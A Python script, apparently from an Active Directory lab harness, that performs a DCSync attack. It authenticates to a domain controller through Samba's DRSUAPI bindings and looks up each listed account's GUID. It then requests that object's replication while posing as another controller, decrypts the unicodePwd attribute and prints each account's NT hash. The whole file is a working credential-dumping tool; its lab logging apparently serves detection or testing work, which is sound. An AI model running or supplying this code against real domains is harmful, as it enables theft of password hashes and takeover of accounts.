"""Has a domain controller replicate the secrets of accounts, each alone, as if to another one. The argument is JSON."""
import json
import sys
import time

import lab_ad
from samba import drs_utils
from samba.credentials import DONT_USE_KERBEROS, Credentials
from samba.dcerpc import drsuapi, misc
from samba.net import Net
from samba.param import LoadParm

want = json.loads(sys.argv[1])
flow = lab_ad.service(want["server"], want["port"])


def login():
    lp = LoadParm()
    lp.load_default()
    who = Credentials()
    who.guess(lp)
    who.set_username(want["user"])
    who.set_domain(want["domain"])
    who.set_password(want["password"])
    who.set_kerberos_state(DONT_USE_KERBEROS)
    since = time.time_ns()
    drs, handle, _ = drs_utils.drsuapi_connect(want["server"], lp, who)
    lab_ad.tell("handshake", since, flow, "login as " + want["user"])
    return drs, handle, Net(who, lp)


def identify(drs, handle, name):
    """The GUID of an account."""
    asked = drsuapi.DsNameString()
    asked.str = "%s\\%s" % (want["domain"], name)
    request = drsuapi.DsNameRequest1()
    request.codepage, request.language = 1252, 1033
    request.format_offered, request.format_desired = drsuapi.DRSUAPI_DS_NAME_FORMAT_NT4_ACCOUNT, drsuapi.DRSUAPI_DS_NAME_FORMAT_GUID
    request.names, request.count = [asked], 1
    found = drs.DsCrackNames(handle, 1, request)[1].array[0]
    if found.status:
        sys.exit("%s: status %d" % (name, found.status))
    return misc.GUID(found.result_name.strip("{}"))


def replicate(drs, handle, guid):
    """The object of that GUID, as it is replicated."""
    context = drsuapi.DsReplicaObjectIdentifier()
    context.guid, context.dn = guid, ""
    request = drsuapi.DsGetNCChangesRequest8()
    request.destination_dsa_guid, request.source_dsa_invocation_id = misc.GUID("9c637462-5b8c-4467-aef2-bdb1f57bc4ef"), misc.GUID()
    request.naming_context, request.highwatermark = context, drsuapi.DsReplicaHighWaterMark()
    request.replica_flags = drsuapi.DRSUAPI_DRS_WRIT_REP | drsuapi.DRSUAPI_DRS_INIT_SYNC
    request.max_object_count, request.extended_op = 1, drsuapi.DRSUAPI_EXOP_REPL_OBJ
    return drs.DsGetNCChanges(handle, 8, request)[1].first_object.object


def nt_hash(drs, net, o):
    rid = int(str(o.identifier.sid).rsplit("-", 1)[1])
    for a in o.attribute_ctr.attributes:
        if a.attid == drsuapi.DRSUAPI_ATTID_unicodePwd and a.value_ctr.num_values:
            net.replicate_decrypt(drs, a, rid)
            return a.value_ctr.values[0].blob.hex()
    return "none"


drs, handle, net = login()
for name in want["accounts"]:
    with lab_ad.doing("exchange", flow, "replication of " + name):
        o = replicate(drs, handle, identify(drs, handle, name))
    print("hash %s %s" % (name, nt_hash(drs, net, o)), flush=True)
    lab_ad.pause(float(want["pause"]))
